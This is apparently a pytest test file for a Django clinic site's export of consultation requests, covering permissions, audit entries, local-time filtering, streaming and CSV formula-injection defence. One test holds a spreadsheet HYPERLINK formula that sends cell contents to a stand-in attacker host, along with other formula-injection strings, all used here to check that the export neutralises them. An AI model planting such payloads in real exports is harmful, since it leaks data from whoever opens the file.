"""Requests as a file: who may have it, what is in it, what a spreadsheet makes of it."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.core.signals import request_finished
from django.db import close_old_connections, connection
from django.test.utils import CaptureQueriesContext

from clinic_site.core.models import AuditEntry
from clinic_site.roles import EDITOR, FRONT_DESK, MANAGER, OWNER
from consults import exports
from consults.exports import Choice, ExportBroke, ExportStream, cell
from consults.models import ConsultRequest
from consults.pipeline import note_outcome
from tests.factories.consults import make_front_desk, make_quarantined_request, make_request, make_role
from tests.factories.locations import make_location
from tests.factories.posts import NOW

from .page import text_of

pytestmark = pytest.mark.django_db

PAGE = "/admin/consults/consultrequest/export/"
GOOD = {"format": "csv", "reason": "report"}


@pytest.fixture(autouse=True)
def morning():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def boss(client):
    client.force_login(make_role(MANAGER, username="boss"))
    return client


def sent(client, **post) -> bytes:
    response = client.post(PAGE, {**GOOD, **post})
    assert response.status_code == 200
    return response.getvalue()


def table(client, **post) -> list[dict[str, str]]:
    body = sent(client, **post).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body, newline="")))


def references(client, **post) -> list[str]:
    return [row["Reference"] for row in table(client, **post)]


@pytest.fixture
def open_connection():
    """A response that is closed closes the connection to the database, which the test still needs."""
    request_finished.disconnect(close_old_connections)
    yield
    request_finished.connect(close_old_connections)


@pytest.mark.parametrize(("role", "status"), [(MANAGER, 200), (OWNER, 200), (FRONT_DESK, 403), (EDITOR, 403)])
def test_it_takes_a_permission_of_its_own(client, role, status):
    make_request()
    client.force_login(make_role(role))
    assert client.get(PAGE).status_code == status
    assert client.post(PAGE, GOOD).status_code == status
    assert AuditEntry.objects.filter(action="requests-exported").exists() == (status == 200)


def test_a20_no_cell_is_a_formula_and_nothing_is_lost(boss):
    """Case A20."""
    values = {
        "name": '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
        "phone": "tel:+1-205-555-0142",
        "phone_as_typed": "+1 205 555 0142",
        "email": "+dana@mail.example",
        "note": 'A comma, a "quote",\na new line and 😀',
    }
    request = make_request(**values)
    others = ["@SUM(1+1)", "-2+3", "\t=1", "\r=1", "  =1+1", "＝1+1"]
    for number, note in enumerate(others):
        make_request(note=note, now=NOW + timedelta(minutes=number))
    body = sent(boss, with_contact="on", with_spam="on")
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\r\n") == 2 + len(others)
    row, *rest = table(boss, with_contact="on", with_spam="on")
    assert row["Name"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Open")'
    assert row["Phone as typed"] == "'+1 205 555 0142"
    assert row["Phone"] == "(205) 555-0142"
    assert row["E-mail"] == "'+dana@mail.example"
    assert row["Note"] == values["note"]
    assert [other["Note"] for other in rest] == [f"'{note}" for note in others]
    for line in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
        assert not [text for text in line if text.lstrip()[:1] in set("=+-@\t\r＝")]
    request.refresh_from_db()
    assert {name: getattr(request, name) for name in values} == values


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("", ""),
        (None, ""),
        (0, "0"),
        (-5, "-5"),
        (True, "yes"),
        (False, "no"),
        ("-", "'-"),
        ("Dana - Whitfield", "Dana - Whitfield"),
        ("'=1", "'=1"),
        (datetime(2026, 11, 25, 9, 10), "2026-11-25 09:10"),
    ],
)
def test_cells(value, expected):
    assert cell(value) == expected


def test_a_row_for_each_request_in_local_time(boss):
    auburn = make_location(name="Auburn")
    request = make_request(location=auburn, contact_by="text", best_time="evening")
    note_outcome(request=request, kind="booked", actor=None, now=NOW + timedelta(hours=5))
    (row,) = table(boss)
    assert row["Reference"] == request.reference
    assert (row["Received"], row["Ended"], row["Clinic"]) == ("2026-11-25 09:10", "2026-11-25 14:10", "Auburn")
    assert (row["Stage"], row["How to reach"], row["May name the clinic"]) == ("Booked", "Text", "no")


def test_without_contact_details_nothing_of_them_is_there(boss):
    make_request(note="About mornings")
    for file in ("csv", "json"):
        body = sent(boss, format=file).decode()
        for value in ("Dana", "555-0142", "5550142", "dana@", "mornings", "Name,", '"name"'):
            assert value not in body


def test_json_is_one_array_with_the_values_as_they_are(boss):
    make_request(name="=1+1", phone="tel:+1-205-555-0142")
    make_request(name="Zoë")
    first, second = json.loads(sent(boss, format="json", with_contact="on"))
    assert (first["name"], second["name"]) == ("=1+1", "Zoë")
    assert first["asked_at"] == "2026-11-25T09:10:00-06:00"
    assert first["finished_at"] is None


def test_an_empty_export_is_an_empty_table_and_an_empty_array(boss):
    assert table(boss) == []
    assert json.loads(sent(boss, format="json")) == []


def test_days_are_local_and_both_are_included(boss):
    moments = [
        datetime(2026, 11, 1, 4, 59, tzinfo=UTC),  # the last minute of October 31, Central Daylight Time
        datetime(2026, 11, 1, 5, 0, tzinfo=UTC),  # the first of November 1, on which the clocks go back
        datetime(2026, 11, 2, 5, 59, tzinfo=UTC),  # its last, Central Standard Time
        datetime(2026, 11, 2, 6, 0, tzinfo=UTC),
    ]
    before, first, last, after = (make_request(now=moment).reference for moment in moments)
    assert references(boss, since="2026-11-01", until="2026-11-01") == [first, last]
    assert references(boss, until="2026-10-31") == [before]
    assert references(boss, since="2026-11-02") == [after]


def test_clinics_stages_and_spam(boss):
    auburn = make_location(name="Auburn")
    there, unsure = make_request(location=auburn), make_request()
    spam, booked = make_quarantined_request(location=auburn), make_request(location=auburn)
    note_outcome(request=booked, kind="booked", actor=None, now=NOW)
    probe = make_request()
    ConsultRequest.objects.filter(pk=probe.pk).update(is_test=True)
    there, unsure, spam, booked = (each.reference for each in (there, unsure, spam, booked))
    assert references(boss) == [there, unsure, booked]
    assert references(boss, clinic=auburn.pk) == [there, booked]
    assert references(boss, clinic="unsure") == [unsure]
    assert references(boss, stages=["booked", "closed"]) == [booked]
    assert references(boss, with_spam="on", clinic=auburn.pk) == [there, spam, booked]


def test_nobody_exports_another_clinics_requests(client):
    auburn, mobile = make_location(name="Auburn"), make_location(name="Mobile")
    here, _ = make_request(location=auburn), make_request(location=mobile)
    user = make_front_desk(auburn)
    user.user_permissions.add(*make_role(MANAGER).groups.get().permissions.filter(codename="export_requests"))
    client.force_login(user)
    assert references(client) == [here.reference]
    assert references(client, clinic=mobile.pk) == []


def test_it_is_noted_at_the_start_and_at_the_end(boss):
    auburn = make_location(name="Auburn")
    for _ in range(3):
        make_request(location=auburn)
    sent(boss, since="2026-11-01", clinic=auburn.pk, stages=["waiting"], with_contact="on", reason="legal")
    start, end = AuditEntry.objects.filter(subject="consults").order_by("pk")
    assert (start.action, start.actor_name, start.from_address) == ("requests-exported", "boss", "127.0.0.1")
    assert start.detail == {
        "count": 3,
        "format": "csv",
        "reason": "legal",
        "since": "2026-11-01",
        "until": None,
        "clinic": auburn.pk,
        "stages": ["waiting"],
        "spam": False,
        "contact": True,
    }
    assert (end.action, end.detail) == ("export-ended", {"export": start.pk, "rows": 3})


def test_a_browser_that_goes_away_is_noted_once_with_what_it_got(monkeypatch):
    monkeypatch.setattr(exports, "PAGE", 2)
    for _ in range(5):
        make_request()
    choice = Choice(format="csv", reason="report")
    stream = ExportStream(choice=choice, user=make_role(OWNER), now=NOW, clock=lambda: NOW)
    lines = iter(stream)
    assert next(lines).startswith("\ufeffReference".encode())
    next(lines), next(lines)
    # What a server does: the generator first, or what it was handed, in either order.
    stream.close(), lines.close()
    # Four were read, and of two it is known that they were sent.
    assert AuditEntry.objects.get(action="export-broke-off").detail == {"export": stream.entry.pk, "rows": 2}


def test_one_that_never_began_is_noted_too(boss, open_connection):
    make_request()
    boss.post(PAGE, GOOD).close()
    assert AuditEntry.objects.get(action="export-broke-off").detail["rows"] == 0


def test_a_fault_in_the_middle_breaks_it_off_and_says_nothing_of_what_was_read(boss, monkeypatch, caplog):
    def fault(phone):
        raise ValueError(f"cannot read {phone}")

    make_request()
    monkeypatch.setattr(exports, "phone_text", fault)
    with pytest.raises(ExportBroke) as caught:
        boss.post(PAGE, {**GOOD, "with_contact": "on"}).getvalue()
    assert "555" not in str(caught.value)
    assert caught.value.__suppress_context__
    assert AuditEntry.objects.filter(action="export-broke-off").exists()


@pytest.mark.parametrize(
    "changes",
    [
        {"reason": ""},
        {"reason": "because I say so"},
        {"format": "exe"},
        {"since": "soon"},
        {"since": "2026-11-25", "until": "2026-11-24"},
        {"until": "9999-12-31"},
        {"clinic": "99999999999999999999"},
        {"clinic": "a\0b"},
        {"stages": ["gone"]},
    ],
)
def test_a_slip_exports_nothing_and_keeps_what_was_chosen(boss, changes):
    make_request()
    response = boss.post(PAGE, {**GOOD, "with_spam": "on", **changes})
    assert response.status_code == 422
    assert "errorlist" in response.content.decode()
    assert "checked" in str(response.context["form"]["with_spam"])
    assert not AuditEntry.objects.filter(action="requests-exported").exists()


def test_the_ends_of_the_calendar_are_days_like_others(boss):
    make_request()
    assert len(references(boss, since="0001-01-01", until="9999-12-29")) == 1
    assert references(boss, since="9999-12-31") == []


def test_no_browser_keeps_the_file_or_guesses_what_it_is(boss, open_connection):
    response = boss.post(PAGE, GOOD)
    assert "no-store" in response.headers["Cache-Control"]
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="requests-2026-11-25.csv"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.streaming
    response.close()
    assert "Why are they exported?" in text_of(boss.get(PAGE))


def test_it_asks_the_database_once_for_each_page_of_rows(boss, monkeypatch):
    location = make_location()
    counts = []
    for number in (3, 27):
        for _ in range(number):
            make_request(location=location)
        with CaptureQueriesContext(connection) as queries:
            sent(boss, with_contact="on")
        counts.append(len(queries))
    assert counts[0] == counts[1]


def test_rows_that_are_erased_meanwhile_are_not_sent(monkeypatch):
    monkeypatch.setattr(exports, "PAGE", 1)
    make_request()
    gone = make_request()
    choice = Choice(format="csv", reason="report")
    stream = ExportStream(choice=choice, user=make_role(OWNER), now=NOW, clock=lambda: NOW)
    lines = iter(stream)
    next(lines), next(lines)
    ConsultRequest.objects.filter(pk=gone.pk).delete()
    assert list(lines) == []
    assert AuditEntry.objects.get(action="export-ended").detail["rows"] == 1
